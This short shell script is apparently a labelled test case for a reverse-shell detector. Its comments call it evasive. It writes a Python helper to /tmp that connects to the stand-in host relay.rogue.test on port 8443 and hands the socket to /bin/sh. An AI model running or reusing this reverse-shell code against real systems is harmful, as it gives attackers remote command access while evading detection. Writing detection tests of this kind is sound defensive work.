#!/bin/sh
# expect: reverse-shell
# why: evasive: a script file (no tell-tale argv) hands its socket to a shell as stdin/stdout, no dup2
cat > /tmp/helper.py <<'PY'
import socket, subprocess
s = socket.create_connection(("relay.rogue.test", 8443), timeout=3)
subprocess.call(["/bin/sh"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno(), timeout=3)
PY
timeout 4 /usr/bin/python3 /tmp/helper.py
true
